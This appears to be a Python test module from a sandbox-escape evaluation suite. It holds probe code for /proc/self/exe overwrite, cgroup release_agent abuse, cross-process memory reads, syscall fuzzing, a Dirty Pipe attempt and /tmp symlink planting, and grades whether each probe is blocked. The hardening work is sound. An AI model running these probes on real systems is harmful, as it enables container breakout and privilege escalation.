"""S1: the kernel, and ways out of the sandbox."""

from ..catalog import PROCESS
from .case import Case

SELF_EXE = """
def attack(event):
    for path in ("/proc/self/exe", "/proc/1/exe"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            return True
        except OSError:
            pass
    return False
"""

DESCRIPTORS = """
def attack(event):
    for process in ("self", "1", str(os.getppid())):
        try:
            numbers = os.listdir(f"/proc/{process}/fd")
        except OSError:
            continue
        for number in numbers:
            for up in ("", "/..", "/../..", "/../../../../../.."):
                try:
                    if open(f"/proc/{process}/fd/{number}{up}{event['bait_file']}").read() == event["bait_mark"]:
                        return True
                except OSError:
                    pass
    return False
"""

MASKED = """
MASKS = ["/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/kmsg", "/proc/sysrq-trigger", "/proc/kallsyms"]
def attack(event):
    done, seen = threading.Event(), []
    def swap():
        while not done.is_set():
            for target in ("/dev/null", "/dev/console", "/proc/kcore"):
                for work in (lambda: os.rename("/tmp/x", target), lambda: os.symlink("/proc/kcore", target), lambda: os.unlink(target)):
                    try:
                        work()
                        seen.append(target)
                    except OSError:
                        pass
    swapper = threading.Thread(target=swap)
    swapper.start()
    try:
        for _ in range(200):
            for path in MASKS:
                try:
                    if open(path, "rb").read(16):
                        seen.append(path)
                except OSError:
                    pass
    finally:
        done.set()
        swapper.join()
    return bool(seen)
"""

DEVICES = """
def attack(event):
    for name in ("kvm", "mem", "kmem", "port", "fuse", "loop-control", "loop0", "vda", "sda", "net/tun", "vhost-net", "snapshot"):
        for flags in (os.O_RDWR, os.O_RDONLY):
            try:
                os.close(os.open("/dev/" + name, flags))
                return True
            except OSError:
                pass
    return False
"""

SIBLING_MEMORY = """
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def attack(event):
    space = ctypes.create_string_buffer(64)
    mine = Part(ctypes.addressof(space), 64)
    for pid in [1, os.getppid(), event["bait_pid"], *range(2, 300)]:
        if pid == os.getpid():
            continue
        try:
            start = int(open(f"/proc/{pid}/maps").read().split("-")[0], 16)
        except (OSError, ValueError):
            start = 0x400000
        theirs = Part(start, 64)
        one = ctypes.c_long(1)
        try:
            if syscall(310, 270, pid, ctypes.byref(mine), one, ctypes.byref(theirs), one, ctypes.c_long(0)) > 0:
                return True
        except OSError:
            pass
    return False
"""

PERF = """
def attack(event):
    attributes = (ctypes.c_uint32 * 32)(1, 128)
    for cpu in (-1, 0):
        try:
            os.close(syscall(298, 241, attributes, -1 if cpu == 0 else 0, cpu, -1, 0))
            return True
        except OSError:
            pass
    return False
"""

RELEASE_AGENT = """
def attack(event):
    def work():
        os.makedirs("/tmp/cg", exist_ok=True)
        for kind, options in ((b"cgroup", b"rdma"), (b"cgroup", b"memory"), (b"cgroup2", b"")):
            if LIBC.mount(b"cg", b"/tmp/cg", kind, 0, options) == 0:
                return True
        for folder, _, names in os.walk("/sys/fs/cgroup"):
            for name in names:
                if name in ("release_agent", "notify_on_release", "cgroup.procs"):
                    with open(os.path.join(folder, name), "w") as file:
                        file.write("1")
                    return True
        return False
    return in_child(work)
"""

FUZZ = """
import random
# Not: ways to end or stop oneself for ever, which are no attack, and waiting without end.
LEFT_OUT = {60, 231, 34, 35, 230, 23, 270, 7, 271, 232, 281, 61, 247, 128, 130, 186, 219, 202, 62, 200, 234, 15, 449}
def attack(event):
    random.seed(event["seed"])
    for _ in range(10):
        child = os.fork()
        if child == 0:
            space = ctypes.create_string_buffer(4096)
            values = [0, 1, 2, 3, -1, 4096, 1 << 31, (1 << 63) - 1, ctypes.addressof(space), 0xDEAD0000]
            for _ in range(1000):
                number = random.randrange(0, 470)
                if number not in LEFT_OUT:
                    LIBC.syscall(number, *(ctypes.c_long(random.choice(values)) for _ in range(6)))
            os._exit(0)
        # Some calls wait for ever.
        end = time.monotonic() + 0.3
        while os.waitpid(child, os.WNOHANG) == (0, 0):
            if time.monotonic() > end:
                os.kill(child, signal.SIGKILL)
                os.waitpid(child, 0)
                break
            time.sleep(0.005)
    # Whatever the calls did: who this is and what it may has not changed.
    status = open("/proc/self/status").read()
    return os.geteuid() == 0 or "CapEff:\\t0000000000000000" not in status
"""

DIRTY_PIPE = """
def attack(event):
    # A page of a read-only file goes into a pipe whose slots were all marked as ones that may be merged into.
    target = os.path.join(os.environ["LAMBDA_TASK_ROOT"], "app.py")
    before = open(target, "rb").read()
    reading, writing = os.pipe()
    size = 65536
    os.write(writing, b"x" * size)
    os.read(reading, size)
    source = os.open(target, os.O_RDONLY)
    check(LIBC.splice(source, ctypes.byref(ctypes.c_int64(0)), writing, None, ctypes.c_size_t(1), 0))
    os.write(writing, b"changed")
    return open(target, "rb").read() != before
"""


def links_over_a_reset(range_):
    """Links that an earlier process left in /tmp lead the next start of the runtime nowhere."""
    plant = """
        def attack(event):
            for name in ("app.py", "bootstrap", "__pycache__", "sitecustomize.py", "core", "log", "stdout", ".aws", "python"):
                try:
                    os.symlink(event["bait_file"], "/tmp/" + name)
                except FileExistsError:
                    pass
            for path in ("/var/task/app.py", "/var/runtime/bootstrap", "/etc/passwd", "/dev/null"):
                for work in (lambda: os.rename("/tmp/app.py", path), lambda: os.unlink(path)):
                    try:
                        work()
                        return True
                    except OSError:
                        pass
            if event.get("crash"):
                os._exit(1)
            return False
        """
    function = range_.deploy(plant)
    function.invoke({**range_.event(), "crash": True})
    outcome = function.invoke(range_.event())
    if outcome.error is not None or outcome.payload["succeeded"]:
        return "E"
    return "P"


CASES = [
    Case(1, "mount, umount and root probes", catalog=("mount a file system", "change the root directory")),
    Case(2, "a user namespace and its rights", catalog=("a user namespace of its own", "mount in a user namespace of its own")),
    Case(
        3,
        "tracing and reading other processes",
        codes=(SIBLING_MEMORY,),
        succeeds_with=PROCESS,
        catalog=("trace a process of the host", "read the memory of a process of the host"),
    ),
    Case(
        4,
        "a walk through /proc, overwriting /proc/self/exe",
        codes=(SELF_EXE,),
        catalog=("host processes in /proc", "kernel addresses", "kernel settings", "a file of the host through /proc"),
    ),
    Case(5, "descriptors that lead to the host", codes=(DESCRIPTORS,)),
    Case(6, "a race for what is masked in /proc and /dev", codes=(MASKED,)),
    Case(7, "device nodes", codes=(DEVICES,), catalog=("a device node",), succeeds_with=PROCESS),
    Case(8, "set-user-id programs", catalog=("a program that is set-user-id root", "set-user-id programs of the host", "become root")),
    Case(
        9,
        "bpf, perf, io_uring, userfaultfd, keyrings",
        codes=(PERF,),
        succeeds_with=PROCESS,
        catalog=("kernel keyrings", "bpf programs", "io_uring", "handling page faults"),
    ),
    Case(10, "out by the control group", codes=(RELEASE_AGENT,), catalog=("control groups",)),
    Case(11, "links in the way of a start", run=links_over_a_reset),
    Case(12, "malformed vsock and virtio descriptors", why_not="there is no virtual machine and no such device in a process sandbox"),
    Case(13, "random system calls, 10,000 each run", codes=(FUZZ,), stopped="C", options={"Timeout": 30, "MemorySize": 512}),
    Case(
        14,
        "known exploits: Dirty Pipe",
        codes=(DIRTY_PIPE,),
        # The others of the set begin with a user namespace, netlink or bpf: see 2 and 9.
    ),
]
